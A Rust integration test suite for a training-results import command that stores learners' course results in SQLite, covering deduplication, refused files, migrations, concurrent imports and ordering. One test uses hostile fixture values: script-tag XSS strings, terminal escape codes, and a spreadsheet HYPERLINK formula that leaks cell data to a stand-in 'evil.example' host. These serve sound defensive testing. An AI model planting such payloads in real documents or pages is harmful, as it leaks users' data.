//! `darslik results add` and the register, run as the trainer runs them:
//! the built binary on results files, the register read back with SQLite.

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Output;

use common::{darslik, stderr};
use rusqlite::Connection;
use serde_json::Value;
use sha2::{Digest, Sha256};

const GOOD: &str = "darslik-results-tip-uz-Dilnoza-Karimova-2026-12-05.json";
const GOOD_LEARNER: &str = "5f0c2a8e-3b1d-4e7a-9c6f-1a2b3c4d5e6f";

fn fixture(name: &str) -> PathBuf {
    common::fixture("results").join(name)
}

fn good_text() -> String {
    std::fs::read_to_string(fixture(GOOD)).expect("good fixture")
}

fn add(db: &Path, files: &[&Path]) -> Output {
    let db = db.to_string_lossy().into_owned();
    let mut args: Vec<String> = vec!["results".into(), "add".into(), "--db".into(), db];
    args.extend(files.iter().map(|f| f.to_string_lossy().into_owned()));
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    darslik(&refs)
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Row counts of every table and one SHA-256 over every row of every
/// table (rows sorted, so only the content counts).
#[derive(Debug, PartialEq, Eq)]
struct Snapshot {
    counts: BTreeMap<String, usize>,
    checksum: String,
}

fn snapshot(db: &Path) -> Snapshot {
    snapshot_of(db, |_| true)
}

/// [`snapshot`] of the tables `keep` says yes to.
fn snapshot_of(db: &Path, keep: impl Fn(&str) -> bool) -> Snapshot {
    let conn = Connection::open(db).expect("open register");
    let tables: Vec<String> = conn
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    let mut counts = BTreeMap::new();
    let mut hash = Sha256::new();
    for t in tables.into_iter().filter(|t| keep(t)) {
        let mut st = conn.prepare(&format!("SELECT * FROM \"{t}\"")).unwrap();
        let n = st.column_count();
        let mut rows: Vec<String> = st
            .query_map([], |r| {
                let mut row = String::new();
                for i in 0..n {
                    let v: rusqlite::types::Value = r.get(i)?;
                    row.push_str(&format!("{v:?}\u{1f}"));
                }
                Ok(row)
            })
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        rows.sort();
        hash.update(t.as_bytes());
        for row in &rows {
            hash.update(row.as_bytes());
            hash.update(b"\x1e");
        }
        counts.insert(t, rows.len());
    }
    Snapshot {
        counts,
        checksum: data_encoding::HEXLOWER.encode(&hash.finalize()),
    }
}

fn count(db: &Path, sql: &str) -> i64 {
    Connection::open(db)
        .unwrap()
        .query_row(sql, [], |r| r.get(0))
        .unwrap()
}

fn text(db: &Path, sql: &str) -> String {
    Connection::open(db)
        .unwrap()
        .query_row(sql, [], |r| r.get(0))
        .unwrap()
}

#[test]
fn a_good_file_is_added_with_every_kind_of_statement() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    let good = fixture(GOOD);
    let o = add(&db, &[&good]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains(&format!(
            "added {}: Дилноза Каримова (Академия МВД), 11 new statements (0 already here)",
            good.display()
        )),
        "{out}"
    );
    assert!(
        out.contains("1 file: 1 added, 0 refused; 11 new statements"),
        "{out}"
    );
    assert!(stderr(&o).is_empty(), "{}", stderr(&o));

    let s = snapshot(&db);
    assert_eq!(s.counts["statements"], 11);
    assert_eq!(s.counts["learners"], 1);
    assert_eq!(s.counts["imports"], 1);
    assert_eq!(s.counts["course"], 1);
    assert_eq!(s.counts["versions"], 1);
    assert_eq!(count(&db, "SELECT version FROM schema_version"), 1);
    assert_eq!(text(&db, "PRAGMA journal_mode"), "wal");
    for (kind, n) in [
        ("page", 1),
        ("question", 5),
        ("test", 2),
        ("scenario", 1),
        ("module", 2),
    ] {
        assert_eq!(
            count(
                &db,
                &format!("SELECT COUNT(*) FROM statements WHERE kind = '{kind}'")
            ),
            n,
            "{kind}"
        );
    }
    // Columns as the contract says.
    let conn = Connection::open(&db).unwrap();
    let row: (
        String,
        String,
        Option<String>,
        Option<i64>,
        Option<f64>,
        Option<i64>,
    ) = conn
        .query_row(
            "SELECT verb, object, test, attempt, score, pages_seen FROM statements
             WHERE id = '0a1b2c3d-0005-4000-8000-000000000005'",
            [],
            |r| {
                Ok((
                    r.get(0)?,
                    r.get(1)?,
                    r.get(2)?,
                    r.get(3)?,
                    r.get(4)?,
                    r.get(5)?,
                ))
            },
        )
        .unwrap();
    assert_eq!(
        row,
        (
            "completed".into(),
            "module-07/00-pre-test.md".into(),
            Some("pre-test".into()),
            Some(1),
            Some(50.0),
            None
        )
    );
    let (learner, name, org, region, locale, saved): (
        String,
        String,
        String,
        String,
        String,
        String,
    ) = conn
        .query_row("SELECT * FROM learners", [], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                r.get(2)?,
                r.get(3)?,
                r.get(4)?,
                r.get(5)?,
            ))
        })
        .unwrap();
    assert_eq!(
        (
            learner.as_str(),
            name.as_str(),
            org.as_str(),
            region.as_str()
        ),
        (GOOD_LEARNER, "Дилноза Каримова", "Академия МВД", "Ташкент")
    );
    assert_eq!(
        (locale.as_str(), saved.as_str()),
        ("ru", "2026-12-05T10:11:12.345Z")
    );
    // Every statement kept as it is in the file.
    let file: Value = serde_json::from_str(&good_text()).unwrap();
    for st in file["statements"].as_array().unwrap() {
        let id = st["id"].as_str().unwrap();
        let json: String = conn
            .query_row("SELECT json FROM statements WHERE id = ?1", [id], |r| {
                r.get(0)
            })
            .unwrap();
        assert_eq!(&serde_json::from_str::<Value>(&json).unwrap(), st);
    }
    // The course's modules, and a question's text and options.
    let modules: Value = serde_json::from_str(&text(&db, "SELECT modules FROM versions")).unwrap();
    assert_eq!(modules, file["course"]["modules"]);
    let (qname, def): (String, String) = conn
        .query_row(
            "SELECT name, definition FROM activities
             WHERE id = 'module-07/01-investigation.md/1' AND locale = 'ru'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(qname, "Что из перечисленного — признак торговли людьми?");
    let def: Value = serde_json::from_str(&def).unwrap();
    assert_eq!(
        def["choices"][2]["description"]["ru"],
        "Долг перед работодателем"
    );
    assert_eq!(
        text(&db, "SELECT file FROM imports"),
        GOOD,
        "imports keep the file's name"
    );
}

#[test]
fn the_same_file_twice_adds_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    let good = fixture(GOOD);
    assert_eq!(add(&db, &[&good]).status.code(), Some(0));
    let before = snapshot(&db);

    let o = add(&db, &[&good]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(
        stdout(&o).starts_with("already added ")
            && stdout(&o).contains("0 new statements (11 already here)"),
        "{}",
        stdout(&o)
    );
    assert_eq!(snapshot(&db), before);

    // The same bytes under another name (sent twice by messenger).
    let copy = dir.path().join("copy (1).json");
    std::fs::copy(&good, &copy).unwrap();
    let o = add(&db, &[&copy, &good, &copy]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stdout(&o).contains("3 files: 0 added, 3 already added, 0 refused"));
    assert_eq!(snapshot(&db), before);

    // The same statements saved again (other bytes): no new statement, one
    // more import.
    let compact = dir.path().join("again.json");
    let v: Value = serde_json::from_str(&good_text()).unwrap();
    std::fs::write(&compact, serde_json::to_string(&v).unwrap()).unwrap();
    let o = add(&db, &[&compact]);
    assert!(
        stdout(&o).starts_with("added ")
            && stdout(&o).contains("0 new statements (11 already here)")
    );
    let after = snapshot(&db);
    assert_eq!(after.counts["statements"], 11);
    assert_eq!(after.counts["imports"], 2);
    let o = add(&db, &[&compact]);
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(snapshot(&db), after);
}

/// A copy of the good file with `from` replaced by `to` (which must be there).
fn edited(dir: &Path, name: &str, edits: &[(&str, &str)]) -> PathBuf {
    let mut t = good_text();
    for (from, to) in edits {
        assert!(t.contains(from), "not in the good file: {from}");
        t = t.replace(from, to);
    }
    let p = dir.join(name);
    std::fs::write(&p, t).unwrap();
    p
}

#[test]
fn each_refusal_names_the_file_and_the_reason_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    assert_eq!(add(&db, &[&fixture("hostile.json")]).status.code(), Some(0));
    let before = snapshot(&db);
    let bad_score = edited(
        dir.path(),
        "bad-score.json",
        &[("\"raw\": 50,", "\"raw\": \"half\",")],
    );
    let huge = dir.path().join("huge.json");
    std::fs::File::create(&huge)
        .unwrap()
        .set_len(21 * 1024 * 1024)
        .unwrap();
    let cases: Vec<(PathBuf, Vec<&str>)> = vec![
        (huge, vec!["not a results file: it is 21.0 MB"]),
        (
            fixture("truncated.json"),
            vec!["damaged", "ends at line 137, column 43", "save it again"],
        ),
        (fixture("not-results.json"), vec!["not a results file"]),
        (
            fixture("newer-format.json"),
            vec!["made by a newer darslik", "format 2"],
        ),
        (
            fixture("other-course.json"),
            vec!["results of course first-aid; this register holds tip-uz: use another --db"],
        ),
        (
            bad_score,
            vec![
                "statements[4].result.score.raw",
                "expected a number from 0 to 100, found \"half\"",
            ],
        ),
        (
            dir.path().join("missing.json"),
            vec!["cannot be read: there is no such file"],
        ),
        (dir.path().to_path_buf(), vec!["it is a folder"]),
    ];
    for (file, reasons) in cases {
        let o = add(&db, &[&file]);
        assert_eq!(o.status.code(), Some(1), "{}", file.display());
        let err = stderr(&o);
        assert!(
            err.contains(&format!("refused {}: ", file.display())),
            "{err}"
        );
        for r in reasons {
            assert!(err.contains(r), "{r} not in: {err}");
        }
        assert!(
            stdout(&o).contains("1 file: 0 added, 1 refused"),
            "{}",
            stdout(&o)
        );
        assert_eq!(snapshot(&db), before, "{}", file.display());
    }
}

#[test]
fn refused_files_make_no_register_and_good_ones_still_go_in() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    let o = add(
        &db,
        &[&fixture("truncated.json"), &fixture("not-results.json")],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(!db.exists(), "a register was made for refused files");

    let o = add(
        &db,
        &[
            &fixture("truncated.json"),
            &fixture(GOOD),
            &fixture("other-course.json"),
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(stdout(&o).contains("3 files: 1 added, 2 refused; 11 new statements"));
    assert_eq!(snapshot(&db).counts["statements"], 11);
}

#[test]
fn a_register_made_by_a_newer_darslik_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    assert_eq!(add(&db, &[&fixture("hostile.json")]).status.code(), Some(0));
    Connection::open(&db)
        .unwrap()
        .execute("UPDATE schema_version SET version = 99", [])
        .unwrap();
    let before = snapshot(&db);
    let o = add(&db, &[&fixture(GOOD)]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(err.contains("made by a newer darslik"), "{err}");
    assert!(err.contains("records.sqlite"), "{err}");
    assert_eq!(snapshot(&db), before);
}

#[test]
fn an_empty_database_is_migrated_and_other_files_are_left_alone() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("empty.sqlite");
    std::fs::write(&db, b"").unwrap();
    let o = add(&db, &[&fixture(GOOD)]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(count(&db, "SELECT version FROM schema_version"), 1);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM schema_version"), 1);
    assert_eq!(text(&db, "PRAGMA journal_mode"), "wal");

    // Not a database: refused, untouched.
    let notes = dir.path().join("notes.txt");
    let words = "Trainer's notes, not a database.\n".repeat(200);
    std::fs::write(&notes, &words).unwrap();
    let o = add(&notes, &[&fixture(GOOD)]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("not an SQLite database"),
        "{}",
        stderr(&o)
    );
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), words);

    // Another program's database: refused, untouched.
    let other = dir.path().join("other.sqlite");
    Connection::open(&other)
        .unwrap()
        .execute_batch("CREATE TABLE contacts (name TEXT); INSERT INTO contacts VALUES ('x');")
        .unwrap();
    let before = snapshot(&other);
    let o = add(&other, &[&fixture(GOOD)]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("not a darslik register"),
        "{}",
        stderr(&o)
    );
    assert_eq!(snapshot(&other), before);
}

#[test]
fn hostile_text_is_stored_as_text_and_printed_harmless() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    let o = add(&db, &[&fixture("hostile.json")]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(
        text(&db, "SELECT name FROM learners"),
        "<script>alert('name')</script> \u{1b}[31mRed\u{1b}[0m"
    );
    assert_eq!(
        text(&db, "SELECT organisation FROM learners"),
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
    );
    assert_eq!(
        text(
            &db,
            "SELECT name FROM activities WHERE id = 'module-07/00-pre-test/1'"
        ),
        "Which is a sign? <script>alert('question')</script>"
    );
    // The terminal gets the escape character written out, not obeyed.
    assert!(!o.stdout.contains(&0x1b), "raw ESC printed");
    assert!(stdout(&o).contains("\\u{1b}[31mRed"), "{}", stdout(&o));
}

#[test]
fn the_newest_saved_details_win_in_any_order() {
    let dir = tempfile::tempdir().unwrap();
    let older = edited(
        dir.path(),
        "older.json",
        &[
            (
                "\"saved\": \"2026-12-05T10:11:12.345Z\"",
                "\"saved\": \"2026-12-01T08:00:00.000Z\"",
            ),
            (
                "\"name\": \"Дилноза Каримова\",\n    \"organisation\": \"Академия МВД\"",
                "\"name\": \"Дилноза К.\",\n    \"organisation\": \"Прокуратура\"",
            ),
            (
                "\"title\": \"Противодействие торговле людьми\"",
                "\"title\": \"Old title\"",
            ),
        ],
    );
    let newer = fixture(GOOD);
    for (first, second) in [(&older, &newer), (&newer, &older)] {
        let db = dir.path().join(format!("r-{}.sqlite", first == &older));
        assert_eq!(add(&db, &[first]).status.code(), Some(0));
        assert_eq!(add(&db, &[second]).status.code(), Some(0));
        assert_eq!(text(&db, "SELECT name FROM learners"), "Дилноза Каримова");
        assert_eq!(
            text(&db, "SELECT organisation FROM learners"),
            "Академия МВД"
        );
        assert_eq!(
            text(&db, "SELECT saved FROM learners"),
            "2026-12-05T10:11:12.345Z"
        );
        assert_eq!(
            text(&db, "SELECT title FROM versions"),
            "Противодействие торговле людьми"
        );
        assert_eq!(count(&db, "SELECT COUNT(*) FROM imports"), 2);
    }
    // Times compare as times: 10:11:12Z is before 10:11:12.345Z, though
    // "Z" sorts after "." as text.
    let earlier = edited(
        dir.path(),
        "earlier.json",
        &[
            (
                "\"saved\": \"2026-12-05T10:11:12.345Z\"",
                "\"saved\": \"2026-12-05T10:11:12Z\"",
            ),
            (
                "\"name\": \"Дилноза Каримова\",\n",
                "\"name\": \"Earlier\",\n",
            ),
        ],
    );
    let db = dir.path().join("times.sqlite");
    assert_eq!(add(&db, &[&newer, &earlier]).status.code(), Some(0));
    assert_eq!(text(&db, "SELECT name FROM learners"), "Дилноза Каримова");
}

/// A results file of `n` statements for learner number `i`, from the good
/// file's statements with new ids.
fn generated(i: usize, n: usize) -> String {
    let mut v: Value = serde_json::from_str(&good_text()).unwrap();
    let learner = format!("{i:08x}-0000-4000-8000-000000000000");
    v["learner"]["id"] = learner.clone().into();
    v["learner"]["name"] = format!("Learner {i}").into();
    v["learner"]["organisation"] = format!("Organisation {}", i % 20).into();
    let base = v["statements"].as_array().unwrap().clone();
    let mut list = Vec::with_capacity(n);
    for k in 0..n {
        let mut s = base[k % base.len()].clone();
        s["id"] = format!("{i:08x}-{k:04x}-4000-8000-000000000000").into();
        s["actor"]["account"]["name"] = learner.clone().into();
        list.push(s);
    }
    v["statements"] = Value::Array(list);
    serde_json::to_string(&v).unwrap()
}

#[test]
fn two_hundred_files_are_added_whole_and_quietly_without_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    for i in 0..200 {
        let p = dir.path().join(format!("learner-{i}.json"));
        std::fs::write(&p, generated(i, 100)).unwrap();
        files.push(p);
    }
    let refs: Vec<&Path> = files.iter().map(PathBuf::as_path).collect();
    let db = dir.path().join("records.sqlite");
    // How fast: benches/results.sh (hyperfine), not a timed test.
    let o = add(&db, &refs);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // No progress bar when stderr is not a terminal.
    assert!(stderr(&o).is_empty(), "{}", stderr(&o));
    assert!(
        stdout(&o).contains("200 files: 200 added, 0 refused; 20000 new statements"),
        "{}",
        stdout(&o)
    );
    assert_eq!(count(&db, "SELECT COUNT(*) FROM statements"), 20_000);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM learners"), 200);
    // The WAL is written into the register before `add` ends.
    let wal = dir.path().join("records.sqlite-wal");
    assert!(!wal.exists() || std::fs::metadata(&wal).unwrap().len() == 0);

    // --quiet prints only the totals.
    let o = darslik(&[
        "results",
        "add",
        "--quiet",
        "--db",
        &db.to_string_lossy(),
        &files[0].to_string_lossy(),
        &dir.path().join("nothing.json").to_string_lossy(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(
        out.starts_with("2 files: 0 added, 1 already added, 1 refused"),
        "{out}"
    );
    assert!(stderr(&o).contains("refused "), "{}", stderr(&o));
}

#[test]
fn two_adds_at_once_into_one_new_register_lose_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    let mut groups: Vec<Vec<PathBuf>> = vec![Vec::new(), Vec::new()];
    for i in 0..60 {
        let p = dir.path().join(format!("l{i}.json"));
        std::fs::write(&p, generated(i, 30)).unwrap();
        groups[i % 2].push(p);
    }
    let bin = env!("CARGO_BIN_EXE_darslik");
    // One after the other, for the counts to compare with.
    for g in &groups {
        let o = std::process::Command::new(bin)
            .args(["results", "add", "--quiet", "--db"])
            .arg(&db)
            .args(g)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    }
    // Both at once, into a register neither finds there.
    let db2 = dir.path().join("together.sqlite");
    let spawned: Vec<_> = groups
        .iter()
        .map(|g| {
            std::process::Command::new(bin)
                .args(["results", "add", "--quiet", "--db"])
                .arg(&db2)
                .args(g)
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for child in spawned {
        let o = child.wait_with_output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    }
    assert_eq!(count(&db2, "SELECT COUNT(*) FROM statements"), 60 * 30);
    assert_eq!(count(&db2, "SELECT COUNT(*) FROM learners"), 60);
    assert_eq!(count(&db2, "SELECT COUNT(*) FROM schema_version"), 1);
    assert_eq!(snapshot(&db2).counts, snapshot(&db).counts);
}

#[test]
fn new_statements_bring_new_question_texts_old_files_do_not_bring_them_back() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    let question = "Что из перечисленного — признак торговли людьми?";
    let old = edited(
        dir.path(),
        "old.json",
        &[(question, "Старый текст вопроса")],
    );
    let new = edited(
        dir.path(),
        "new.json",
        &[(
            "0a1b2c3d-0002-4000-8000-000000000002",
            "0a1b2c3d-0002-4000-8000-0000000000f2",
        )],
    );
    let name = |db: &Path| {
        text(
            db,
            "SELECT name FROM activities WHERE id = 'module-07/01-investigation.md/1'",
        )
    };
    assert_eq!(add(&db, &[&old]).status.code(), Some(0));
    assert_eq!(name(&db), "Старый текст вопроса");
    let o = add(&db, &[&new]);
    assert!(
        stdout(&o).contains("1 new statement (10 already here)"),
        "{}",
        stdout(&o)
    );
    assert_eq!(name(&db), question);
    // The old file saved again in other bytes: nothing new, the text stays.
    let v: Value = serde_json::from_str(&std::fs::read_to_string(&old).unwrap()).unwrap();
    let old2 = dir.path().join("old2.json");
    std::fs::write(&old2, serde_json::to_string(&v).unwrap()).unwrap();
    assert_eq!(add(&db, &[&old2]).status.code(), Some(0));
    assert_eq!(name(&db), question);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM imports"), 3);
}

#[test]
fn an_empty_file_and_a_folder_for_a_register_are_refused_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let empty = dir.path().join("darslik-results-tip-uz-x-2026-12-05.json");
    std::fs::write(&empty, b"").unwrap();
    let db = dir.path().join("records.sqlite");
    let o = add(&db, &[&empty]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains(&format!(
            "refused {}: damaged: the file is empty",
            empty.display()
        )),
        "{}",
        stderr(&o)
    );
    let o = add(&dir.path().join("no/such"), &[&fixture(GOOD)]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("cannot open or make the register"),
        "{}",
        stderr(&o)
    );
    assert!(stderr(&o).contains("there is no folder"), "{}", stderr(&o));
}

#[test]
fn a_file_that_fails_at_its_last_row_leaves_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("records.sqlite");
    assert_eq!(add(&db, &[&fixture("hostile.json")]).status.code(), Some(0));
    // The register refuses the file's last write (its imports row), after
    // its learner, statements and activities went in.
    Connection::open(&db)
        .unwrap()
        .execute_batch(
            "CREATE TRIGGER no_imports BEFORE INSERT ON imports
             BEGIN SELECT RAISE(ABORT, 'imports are closed'); END;",
        )
        .unwrap();
    let before = snapshot(&db);
    let o = add(&db, &[&fixture(GOOD)]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains(&format!("refused {}: not stored:", fixture(GOOD).display())),
        "{err}"
    );
    assert!(err.contains("imports are closed"), "{err}");
    assert_eq!(snapshot(&db), before, "a half-stored file");
    assert!(stdout(&o).contains("1 file: 0 added, 1 refused; 0 new statements"));
}

#[test]
fn the_same_files_in_any_order_make_the_same_register() {
    let dir = tempfile::tempdir().unwrap();
    // A learner saves twice (the second file repeats the first's statements
    // and adds one, with new details), re-saves without a change in other
    // bytes, and another learner saves once.
    let first = edited(
        dir.path(),
        "first.json",
        &[
            (
                "\"saved\": \"2026-12-05T10:11:12.345Z\"",
                "\"saved\": \"2026-12-04T10:00:00.000Z\"",
            ),
            (
                "\"organisation\": \"Академия МВД\"",
                "\"organisation\": \"МВД\"",
            ),
        ],
    );
    let good = good_text();
    let last = good.rfind("\n    }\n  ]").unwrap() + "\n    }".len();
    let extra = good[good.find("    {\n      \"id\": \"0a1b2c3d-0001").unwrap()..]
        .split("\n    },")
        .next()
        .unwrap()
        .replace(
            "0a1b2c3d-0001-4000-8000-000000000001",
            "0a1b2c3d-00ff-4000-8000-0000000000ff",
        )
        .replace("module-07/01-investigation.md", "module-06/01-signs.md")
        .replace("Расследование: первые шаги", "Признаки");
    let second_text = format!("{},\n{extra}\n    }}{}", &good[..last], &good[last..]);
    let second = dir.path().join("second.json");
    std::fs::write(&second, &second_text).unwrap();
    // Saved again on Windows: CRLF line breaks, the same statements.
    let again = dir.path().join("again.json");
    std::fs::write(&again, second_text.replace('\n', "\r\n")).unwrap();
    let other = dir.path().join("other.json");
    std::fs::write(&other, generated(7, 25)).unwrap();

    let orders: [[&Path; 4]; 3] = [
        [&first, &second, &again, &other],
        [&other, &again, &second, &first],
        [&second, &first, &other, &again],
    ];
    let mut seen = Vec::new();
    for (i, order) in orders.iter().enumerate() {
        let db = dir.path().join(format!("r{i}.sqlite"));
        let o = add(&db, order);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(count(&db, "SELECT COUNT(*) FROM statements"), 12 + 25);
        assert_eq!(count(&db, "SELECT COUNT(*) FROM imports"), 4);
        assert_eq!(
            text(
                &db,
                "SELECT organisation FROM learners WHERE name = 'Дилноза Каримова'"
            ),
            "Академия МВД"
        );
        // imports.added and .at say when each file came; the rest is the same.
        seen.push(snapshot_of(&db, |t| t != "imports"));
    }
    assert_eq!(seen[0], seen[1]);
    assert_eq!(seen[0], seen[2]);
}
